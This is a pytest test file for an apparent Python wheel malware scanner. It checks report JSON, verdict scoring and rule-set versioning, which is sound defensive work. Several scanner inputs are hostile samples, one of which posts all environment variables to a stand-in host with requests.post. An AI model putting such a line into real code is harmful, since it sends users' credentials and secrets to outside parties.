"""Reports, verdicts and rule sets as values."""

from __future__ import annotations

import json
from dataclasses import replace

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from support.scan import scan_import, the_ruleset
from wheelmark.scan import (
    Context,
    DecodedLayer,
    Finding,
    Model,
    Reason,
    Report,
    Rule,
    RuleSet,
    RuleState,
    Severity,
    Step,
    StepKind,
    Tactic,
    Verdict,
)
from wheelmark.scan.facts import Facts
from wheelmark.scan.features import Features
from wheelmark.scan.rule import Evidence
from wheelmark.scan.verdict import joined_score, score_of, verdict_of

FIELDS = {"file", "sha256", "verdict", "score", "findings", "elapsed_ms", "ruleset", "model"}
REASON_FIELDS = {"what", "effect", "member", "line", "needed"}
FINDING_FIELDS = {"rule", "severity", "member", "line", "message", "evidence"}


def a_finding(rule: str = "a-rule", severity: Severity = Severity.HIGH) -> Finding:
    return Finding(rule=rule, severity=severity, member="m.py", line=1, message="m.", evidence="e")


def a_rule(**changes: object) -> Rule:
    rule = Rule(
        id="a-rule",
        version=1,
        severity=Severity.HIGH,
        tactic=Tactic.EXECUTION,
        message="Something.",
        reference="https://example.invalid/",
        check=lambda facts: [
            Evidence(
                severity=Severity.CRITICAL, member="m.py", line=1, context=Context.IMPORT, text="\x1b[2J\u202eseen"
            )
        ],
    )
    return replace(rule, **changes)  # type: ignore[arg-type]  # fields of Rule


FACTS = Facts(filename="x.whl", is_wheel=True, is_pure=True, members=())
text = st.text(max_size=20)
steps = st.builds(Step, kind=st.sampled_from(StepKind), what=text, member=text, line=st.integers(0, 10**6))
layers = st.builds(
    DecodedLayer,
    member=text,
    line=st.integers(0, 10**6),
    depth=st.integers(1, 6),
    decoders=st.lists(text, max_size=3).map(tuple),
    text=text,
)
findings = st.builds(
    Finding,
    rule=text,
    severity=st.sampled_from(Severity),
    member=text,
    line=st.integers(0, 10**6),
    message=text,
    evidence=text,
    tactic=st.sampled_from(Tactic),
    context=st.sampled_from(Context),
    flow=st.lists(steps, max_size=3).map(tuple),
)
reasons = st.builds(
    Reason, what=text, effect=st.floats(0, 1), member=text, line=st.integers(0, 10**6), needed=st.booleans()
)
reports = st.builds(
    Report,
    file=text,
    sha256=text,
    verdict=st.sampled_from(Verdict),
    score=st.floats(0, 1),
    findings=st.lists(findings, max_size=3).map(tuple),
    elapsed_ms=st.floats(0, 1e6),
    ruleset=text,
    incomplete_reason=st.none() | text,
    layers=st.lists(layers, max_size=2).map(tuple),
    model=text,
    reasons=st.lists(reasons, max_size=3).map(tuple),
)


@given(reports)
@settings(max_examples=50)
def test_report_survives_json(report: Report) -> None:
    line = report.to_json(with_context=True)
    assert b"\n" not in line
    assert Report.from_json(line) == report


def test_json_has_exactly_the_fixed_fields() -> None:
    report = scan_import("import os, requests\nrequests.post('https://x.example.invalid', json=dict(os.environ))")
    document = json.loads(report.to_json())
    assert set(document) == FIELDS | {"reasons"}
    assert all(set(reason) == REASON_FIELDS for reason in document["reasons"])
    assert all(set(finding) == FINDING_FIELDS for finding in document["findings"])
    incomplete = json.loads(replace(report, incomplete_reason="why", reasons=()).to_json())
    assert set(incomplete) == FIELDS | {"incomplete_reason"}


def test_report_of_a_time_before_the_model_is_still_read() -> None:
    document = json.loads(scan_import("import os, requests\nrequests.post('https://x.example.invalid')").to_json())
    del document["model"]
    document.pop("reasons", None)
    report = Report.from_json(json.dumps(document).encode())
    assert (report.model, report.reasons) == ("", ())


@pytest.mark.parametrize("line", [b"", b"null", b"[]", b"{}", b'{"file": 1}', b'"x"', b"\xff"])
def test_line_that_is_no_report_is_refused(line: bytes) -> None:
    with pytest.raises(ValueError):
        Report.from_json(line)


@given(st.lists(st.sampled_from(Severity), max_size=8), st.sampled_from(Severity))
@settings(max_examples=50)
def test_one_more_finding_never_lowers_the_score(severities: list[Severity], more: Severity) -> None:
    some = [a_finding(f"rule-{number}", severity) for number, severity in enumerate(severities)]
    assert score_of([*some, a_finding("more", more)]) >= score_of(some)


def test_many_findings_of_one_rule_count_once() -> None:
    assert score_of([a_finding()] * 50) == score_of([a_finding()])


def a_model(**changes: object) -> Model:
    model = Model(
        version="0" * 12,
        features=("flow/secret/send/install",),
        trees=((0, 0, -4_000_000, 0),),
        calibration=((-4_000_000, 100), (0, 7000), (4_000_000, 9900)),
        suspicious=0.5,
        malicious=0.9,
        rules={"known": 1, "loud": 1},
        imprecise=frozenset({"loud"}),
    )
    return replace(model, **changes)  # type: ignore[arg-type]  # fields of Model


def verdict_on(*findings: Finding, seen: tuple[str, ...] = (), complete: bool = True) -> Verdict:
    features = Features()
    for name in seen:
        features.note("m.py", name, 1)
    return verdict_of(joined_score(findings, a_model().worst(features.cases), a_model()), a_model(), complete=complete)


def test_no_number_of_lesser_findings_of_unknown_rules_makes_a_file_malicious() -> None:
    many = [a_finding(f"rule-{number}", Severity.HIGH) for number in range(20)]
    assert verdict_on(*many) is Verdict.SUSPICIOUS
    assert verdict_on(a_finding(severity=Severity.LOW)) is Verdict.BENIGN


def test_critical_finding_decides_unless_its_rule_was_measured_to_be_imprecise() -> None:
    assert verdict_on(a_finding("of-a-plug-in", Severity.CRITICAL)) is Verdict.MALICIOUS
    assert verdict_on(a_finding("known", Severity.CRITICAL)) is Verdict.MALICIOUS
    assert verdict_on(a_finding("loud", Severity.CRITICAL)) is Verdict.BENIGN


def test_model_weighs_what_known_rules_and_facts_say() -> None:
    assert verdict_on(a_finding("known", Severity.HIGH)) is Verdict.BENIGN
    assert verdict_on(a_finding("known", Severity.HIGH), seen=("flow/secret/send/install",)) is Verdict.SUSPICIOUS


def test_circumstances_alone_are_no_case() -> None:
    model = a_model(trees=(9_000_000,))
    features = Features()
    features.note("m.py", "rules/high", 3)
    assert joined_score([], model.worst(features.cases), model) == 0
    features.note("m.py", "act/send over the network/install", 1)
    assert joined_score([], model.worst(features.cases), model) == 0.99


def test_incomplete_scan_is_never_benign() -> None:
    assert verdict_on(complete=False) is Verdict.INCOMPLETE
    assert verdict_on(a_finding(), complete=False) is Verdict.INCOMPLETE
    assert verdict_on(a_finding("known", Severity.CRITICAL), complete=False) is Verdict.MALICIOUS


def test_rule_in_evaluation_reports_but_does_not_count() -> None:
    found = a_rule(state=RuleState.EVALUATION).findings(FACTS, 10)
    assert [finding.severity for finding in found] == [Severity.INFO]
    assert score_of(found) == 0


def test_finding_is_never_graver_than_its_rule_allows() -> None:
    assert a_rule(severity=Severity.LOW).findings(FACTS, 10)[0].severity is Severity.LOW


def test_evidence_shows_control_and_bidi_characters_instead_of_obeying_them() -> None:
    assert a_rule().findings(FACTS, 10)[0].evidence == "\\u001b[2J\\u202eseen"


def test_ruleset_version_changes_with_a_rule_its_version_and_its_state() -> None:
    versions = {
        RuleSet((a_rule(),)).version,
        RuleSet((a_rule(version=2),)).version,
        RuleSet((a_rule(), a_rule(id="another"))).version,
        RuleSet((a_rule(), a_rule(id="another", state=RuleState.EVALUATION))).version,
        RuleSet((a_rule(),), a_model()).version,
    }
    assert len(versions) == 5
    assert RuleSet((a_rule(), a_rule(id="off", state=RuleState.DISABLED))).version == RuleSet((a_rule(),)).version


@pytest.mark.parametrize(
    "rules",
    [
        (),
        (a_rule(state=RuleState.DISABLED),),
        (a_rule(), a_rule()),
        (a_rule(id="No Good"),),
        (a_rule(id="taken-together"),),
    ],
)
def test_ruleset_that_would_lie_is_a_mistake(rules: tuple[Rule, ...]) -> None:
    with pytest.raises(RuntimeError, match="expected"):
        RuleSet(rules)


def test_no_rules_at_all_never_means_clean() -> None:
    assert len([rule for rule in the_ruleset().rules if rule.state is RuleState.ENABLED]) >= 12
